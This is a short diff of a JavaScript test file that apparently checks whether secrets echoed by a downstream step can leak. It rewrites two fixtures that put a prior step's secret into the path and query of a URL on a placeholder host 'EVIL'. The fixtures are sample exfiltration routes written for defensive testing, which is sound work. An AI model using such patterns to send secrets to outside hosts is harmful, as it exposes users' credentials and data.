@@ -86,8 +86,8 @@ describe('a secret that a downstream echoes', () => {
       { body: `a=${echo('plain')}`, headers: { 'Content-Type': 'application/x-www-form-urlencoded' } },
     ],
     ['a header', { headers: { 'X-Note': echo('base64') } }],
-    ['the path', { url: `${'EVIL'}/{{step.s0.body.plain}}` }],
-    ['the query', { url: `${'EVIL'}/x?q={{step.s0.body.json}}` }],
+    ['the path', { url: 'EVIL/{{step.s0.body.plain}}' }],
+    ['the query', { url: 'EVIL/x?q={{step.s0.body.json}}' }],
     ['the whole answer', { body: '{{step.s0.body}}' }],
     ['all steps', { body: { all: '{{steps}}' } }],
   ];
